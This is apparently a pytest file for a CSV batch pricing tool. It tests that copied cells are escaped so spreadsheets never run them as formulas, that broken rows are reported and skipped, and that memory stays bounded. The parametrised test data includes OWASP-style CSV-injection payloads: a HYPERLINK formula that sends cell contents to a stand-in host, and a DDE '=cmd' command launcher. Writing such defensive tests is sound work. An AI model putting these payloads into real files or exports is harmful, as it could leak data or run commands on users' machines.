"""`lot` on files from the field (issue 29): no cell of its output runs as a formula in a
spreadsheet, a row the CSV reader cannot parse is reported and skipped while the batch goes
on, and memory does not grow with the file. Figures from the frozen rules: 7/1/2 is the
offer's example (level 2: 409.00 HT), 2 workstations cost 127.00 HT at level 2."""

import csv
import io
import tracemalloc
from datetime import date

from hypothesis import given, settings, strategies as st
import pytest

from calculator.batch_csv import FORMULA_STARTS
from calculator.sales import batch

from .frozen import frozen_rules

BASE = "https://reunioninformatique.com/"
# Each row's proposal: issued on a fixed day, with a price list version of any 12 hex digits.
PROPOSAL = (date(2027, 1, 15), "0123456789ab")


def lot(content: "str | bytes", delimiter=",") -> tuple:
    """(rows of the output as dicts, notices sent to the terminal)."""
    data = content.encode("utf-8") if isinstance(content, str) else content
    out, notices = io.StringIO(), []
    batch(io.BytesIO(data), frozen_rules(), BASE, out, notices.append, PROPOSAL)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=delimiter)), notices


# OWASP's CSV-injection rule: the payloads of the issue, copied columns and headers alike.
@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://x.example/?d="&A1;"clic")', '\'=HYPERLINK("http://x.example/?d="&A1;"clic")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=2+2", "'\t=2+2"),
    ("\r=3+3", "'\r=3+3"),
    # Written as read, never stripped: a leading space keeps it text in the output too.
    (" =4+4", " =4+4"),
    ("Dr Payet ", "Dr Payet "),
    ("Cabinet l'Ermitage", "Cabinet l'Ermitage"),
])
def test_copied_cells_never_become_formulas(cell, written):
    quoted = '"' + cell.replace('"', '""') + '"'
    rows, _ = lot(f"nom,postes,{quoted}\n{quoted},2,{quoted}\n")
    (row,) = rows
    assert list(row.items())[:2] == [("nom", written), (written, written)]    # the header's cell too
    assert row["niveau_2_ht"] == "127.00"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r ;,\"'ab1é\n"), max_size=8), min_size=1, max_size=4))
def test_no_output_cell_starts_like_a_formula(cells):
    """Whatever a copied cell holds, a spreadsheet opening the output runs nothing: the
    invariant OWASP asks for, on every cell, the header's included."""
    quoted = ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)
    rows, _ = lot(f"postes,{','.join(f'c{i}' for i in range(len(cells)))}\n2,{quoted}\n")
    for row in rows:
        for key, value in row.items():
            assert not (value or "").startswith(FORMULA_STARTS) and not (key or "").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("content, kept, notice", [
    # An unbalanced quote no longer swallows the rows after it.
    ('nom,postes\n"Dr A,2\nDr B,2\nDr C,2\n', ["", "Dr B", "Dr C"],
     "Ligne 2 illisible (guillemet non fermé ou mal placé) ; ligne ignorée."),
    # A quote inside a cell is text; text after a closing quote is not CSV.
    ('nom,postes\nDr "A" Payet,2\n"Dr D"x,2\nDr B,2\n', ['Dr "A" Payet', "", "Dr B"],
     "Ligne 3 illisible (guillemet non fermé ou mal placé) ; ligne ignorée."),
    # One cell over csv's limit fails its row, in French, not the file.
    ("nom,postes\n" + "x" * 131_073 + ",7\nDr B,2\n", ["", "Dr B"],
     "Ligne 2 illisible (une cellule dépasse 131\u00a0072 caractères) ; ligne ignorée."),
    ("nom,postes\n" + "x" * (2 << 20) + "\nDr B,2\n", ["", "Dr B"],
     "Ligne 2 illisible (elle dépasse 1 Mo) ; ligne ignorée."),
])
def test_a_row_the_reader_cannot_parse_is_reported_and_the_batch_goes_on(content, kept, notice):
    rows, notices = lot(content)
    assert [row["nom"] for row in rows] == kept
    assert notices == [notice]
    broken = [row for row in rows if row["nom"] == ""]
    assert [row["avis"] for row in broken] == [notice] and all(row["niveau_2_ht"] == "" for row in broken)
    assert {row["niveau_2_ht"] for row in rows if row["nom"]} == {"127.00"}     # 2 workstations each


def test_a_quoted_cell_may_hold_line_breaks():
    rows, notices = lot('nom,postes,serveurs,imagerie\n"Dr Payet\nBâtiment 2",7,1,2\nDr B,2,0,0\n')
    assert [(row["nom"], row["niveau_2_ht"]) for row in rows] == [("Dr Payet\nBâtiment 2", "409.00"),
                                                                  ("Dr B", "127.00")]
    assert notices == []


def _file(rows: int) -> bytes:
    lines = ["nom;postes;serveurs;commune"] + [f"Cabinet {n};{n % 12 + 1};{n % 3};saint-paul" for n in range(rows)]
    return ("\n".join(lines) + "\n").encode("utf-8")


def test_memory_does_not_grow_with_the_file():
    """A streamed batch holds one record at a time: ten times the rows, about the same peak.
    (Before, the whole file and its output were held at once, about 18 times its size.)"""
    peaks = []
    for rows in (1_000, 10_000):
        source = io.BytesIO(_file(rows))
        tracemalloc.start()
        batch(source, frozen_rules(), BASE, _Discard(), lambda notice: None, PROPOSAL)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5, peaks


class _Discard(io.TextIOBase):
    """An output that keeps nothing, so that only the batch's own memory is measured."""

    def write(self, text):
        return len(text)
